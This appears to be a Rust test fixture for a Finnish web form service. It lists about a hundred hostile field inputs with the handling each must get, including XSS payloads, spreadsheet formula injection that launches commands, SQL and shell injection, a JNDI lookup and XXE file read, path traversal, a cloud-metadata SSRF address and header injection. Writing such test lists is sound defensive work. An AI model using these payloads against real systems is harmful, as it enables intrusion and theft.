//! What somebody may type, paste or send who is careless or means harm.

/// What must come of a value in a field of text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Fate {
    /// It is text like any other, though it looks like something else: kept as it is or refused by the field's own rule.
    Text,
    /// It is kept nowhere: the form comes back, or nothing is done.
    Never,
    /// As `Never`, but for fields that take as long a text.
    Long,
    /// It is kept nowhere and said nowhere again, however it is written: a personal identity code without a ground.
    Code,
    /// It is no form at all, or beyond every limit, so that no page is asked.
    Unread,
}
use Fate::{Code, Long, Never, Text, Unread};

/// One value.
#[derive(Debug, Clone)]
pub(crate) struct Hostile {
    /// What it is, for whoever reads what failed.
    pub(crate) what: &'static str,
    /// As it stands in the body of a form, encoded.
    pub(crate) sent: String,
    pub(crate) fate: Fate,
}

/// The personal identity code of nobody: an individual number that no person gets, and a right check character.
pub(crate) const CODE: &str = "240266-918R";

/// How many letters the longest words have.
pub(crate) const LONG: usize = 21_000;

/// As a browser encodes a value.
pub(crate) fn encoded(value: &str) -> String {
    let plain = |b: u8| b.is_ascii_alphanumeric() || b"-._*".contains(&b);
    value.bytes().map(|b| if plain(b) { char::from(b).to_string() } else { format!("%{b:02X}") }).collect()
}

/// All of them.
pub(crate) fn hostile() -> Vec<Hostile> {
    let table: Vec<(&'static str, String, Fate)> = [
        // Nothing, and what cannot be seen.
        ("blanks", "   ", Text),
        ("tabs and line ends", "\t\r\n\t\n", Text),
        ("invisible letters only", "\u{200b}\u{2060}\u{feff}\u{ad}", Text),
        ("the Hangul filler", "\u{3164}\u{115f}", Text),
        ("a NUL", "Keksitty\0zxq", Never),
        ("a NUL only", "\0", Never),
        ("a NUL behind a good value", "aino@example.fi\0", Never),
        ("a bell", "Keksitty\u{7}zxq", Never),
        ("an escape sequence of a terminal", "\u{1b}[2J\u{1b}]0;zxq\u{7}", Never),
        ("a backspace", "zxq\u{8}\u{8}\u{8}abc", Never),
        ("a delete", "Keksitty\u{7f}zxq", Never),
        ("a control character of C1", "Keksitty\u{9b}31mzxq", Never),
        ("the end of file of DOS", "Keksitty\u{1a}", Never),
        ("a form feed", "Keksitty\u{c}zxq", Text),
        // Letters.
        ("text turned round", "\u{202e}fdp.exe\u{202c}", Text),
        ("text isolated", "\u{2066}a\u{2067}b\u{2069}", Text),
        ("invisible letters within", "Kek\u{200b}sit\u{2060}ty", Text),
        ("a letter of a thousand marks", "a\u{301}\u{302}\u{303}\u{304}\u{305}", Text),
        ("letters of private use and none at all", "\u{e000}\u{fffe}\u{10ffff}", Text),
        ("a replacement character", "Keksi\u{fffd}ty", Text),
        ("a family of one sign", "👩\u{200d}👩\u{200d}👧\u{200d}👦🏳\u{fe0f}\u{200d}🌈", Text),
        ("Cyrillic that looks Latin", "\u{430}ino@ex\u{430}mple.fi", Text),
        ("full-width letters", "Ｋｅｋｓｉｔｔｙ１２３", Text),
        ("mathematical letters", "𝐊𝐞𝐤𝐬𝐢𝐭𝐭𝐲", Text),
        ("Arabic digits", "١٢٣٤٥٦٧", Text),
        ("the separators of lines of Unicode", "a\u{2028}b\u{2029}c\u{85}d", Text),
        // What others would run.
        ("a script", "<script>zxq(1)</script>", Text),
        ("a script that closes a field", "\"><script>zxq(2)</script>", Text),
        ("a script that closes a text", "</textarea></title></style><script>zxq(3)</script>", Text),
        ("a picture with a hand", "<img src=zxq onerror=zxq(4)>", Text),
        ("an attribute that closes another", "\" onfocus=\"zxq(5)\" autofocus x=\"", Text),
        ("an attribute with other quotes", "' onfocus='zxq(6)' x='", Text),
        ("an address that runs", "javascript:zxq(7)", Text),
        ("an address that is data", "data:text/html,<script>zxq(8)</script>", Text),
        ("a drawing that runs", "<svg/onload=zxq(9)>", Text),
        ("a comment that does not close", "<!--zxq", Text),
        ("entities", "&lt;script&gt;&#0;&#x3c;&amp;amp;&nope;", Text),
        ("hands for htmx", "\" hx-get=\"/zxq\" hx-trigger=\"load", Text),
        ("a formula", "=HYPERLINK(\"http://example.com/?\"&A1;\"zxq\")", Text),
        ("a formula of commands", "=cmd|'/C calc'!A0", Text),
        ("a formula behind a sign", "@SUM(1+1)*cmd|'/C calc'!A0", Text),
        ("a formula behind plus and minus", "+1-1+cmd|'/C calc'!A0", Text),
        ("a formula behind a tab", "\t=1+1", Text),
        ("SQL", "'; DROP TABLE record; --", Text),
        ("SQL that is true", "\" OR \"1\"=\"1", Text),
        ("a shell", "$(reboot)`reboot`;reboot|reboot&reboot", Text),
        ("a template", "{{7*7}}${7*7}<%=7*7%>#{7*7}", Text),
        ("a look-up", "${jndi:ldap://example.com/zxq}", Text),
        ("signs of formats", "%s%n%d%x%08x{}{0}{:?}", Text),
        ("a text of the translations", "{ $name } { -brand } \\u0022", Text),
        ("a line of a notice", "\"\n[notice]\nid = \"zxq\"\n[[role]]\nmay = [\"erase\"]", Text),
        ("JSON", "{\"a\":{\"__proto__\":{\"admin\":true}}}", Text),
        ("XML with an entity", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", Text),
        ("a pattern that never ends", "(a+)+$ aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", Text),
        // Ways out.
        ("a path out", "../../../../etc/passwd", Text),
        ("a path out of Windows", "..\\..\\..\\Windows\\win.ini", Text),
        ("a path in disguise", "..%2f..%2f..%c0%afetc%c0%afpasswd", Text),
        ("a file of this machine", "file:///etc/passwd", Text),
        ("a place that only the machine reaches", "http://169.254.169.254/latest/meta-data/", Text),
        ("another site", "//evil.example.com/zxq", Text),
        ("a header of mail", "aino@example.fi\r\nBcc: zxq@example.com", Text),
        ("a header of an answer", "zxq\r\nSet-Cookie: seloste=zxq\r\n\r\n<html>", Text),
        ("a header, encoded twice", "zxq%0d%0aSet-Cookie:%20seloste=zxq", Text),
        ("a device", "CON", Text),
        // Numbers and days.
        ("a number without end", "1e999", Text),
        ("no number", "NaN", Text),
        ("less than nothing", "-0", Text),
        ("a number below all", "-99999999999999999999999999", Text),
        ("a number above all", "18446744073709551616", Text),
        ("a number of sixteen", "0x7fffffff", Text),
        ("a day that is none", "2026-02-30", Text),
        ("a day before all", "0000-00-00", Text),
        ("a day after all", "9999-12-31", Text),
        ("a day beyond all", "-999999-01-01", Text),
        ("a day with a time", "2026-11-22T10:00:00Z", Text),
        // Words that are something elsewhere.
        ("null", "null", Text),
        ("a name of every object", "__proto__", Text),
        ("undefined", "undefined", Text),
        ("an asterisk", "*", Text),
        ("a dot", ".", Text),
        ("nothing but quotes", "\"'`´’”«»", Text),
        // A personal identity code, in each writing.
        ("an identity code", CODE, Code),
        ("an identity code in a sentence", "Hetu on 240266-918R, soita.", Code),
        ("an identity code in small letters", "240266-918r", Code),
        ("an identity code with another dash", "240266\u{2212}918R", Code),
        ("an identity code with spaces", "240266 - 918R", Code),
        ("an identity code with what cannot be seen", "2402\u{200b}66-9\u{ad}18R", Code),
        ("an identity code in full width", "２４０２６６－９１８Ｒ", Code),
    ]
    .into_iter()
    .map(|(what, value, fate)| (what, value.to_owned(), fate))
    .chain([
        ("five thousand marks on a letter", format!("a{}", "\u{301}".repeat(5_000)), Text),
        ("five thousand words", "zxq ".repeat(5_000), Text),
        ("two thousand lines", "zxq\n".repeat(2_000), Text),
        ("five thousand opening brackets", "[".repeat(5_000), Text),
        ("a word of 21,000 letters", "a".repeat(LONG), Long),
        ("a word of 21,000 letters of four bytes", "𝐊".repeat(LONG), Long),
    ])
    .collect();
    let typed = table.into_iter().map(|(what, value, fate)| Hostile { what, sent: encoded(&value), fate });
    let raw = [
        ("bytes that are no letters", "%ff%fe%41%00".to_owned()),
        ("Latin-1", "J%E4rvi".to_owned()),
        ("half of a pair", "%ED%A0%80".to_owned()),
        ("a slash in too many bytes", "%C0%AF".to_owned()),
        ("a percent sign and nothing", "zxq%".to_owned()),
        ("a percent sign and no number", "zxq%zz".to_owned()),
        ("a thousand further fields", format!("a{}", "&zxq=1".repeat(1_001))),
        ("a text of 10 MB", "a".repeat(10_000_000)),
    ];
    typed.chain(raw.map(|(what, sent)| Hostile { what, sent, fate: Unread })).collect()
}

#[test]
fn no_value_is_there_twice_and_the_code_is_one() {
    let all = hostile();
    let mut seen = std::collections::BTreeSet::new();
    assert!(all.iter().all(|h| seen.insert(h.sent.clone())), "each is another");
    assert!(all.len() >= 100, "{}", all.len());
    assert!(seloste_terms::identifiers::identity_code::find(CODE).len() == 1);
}
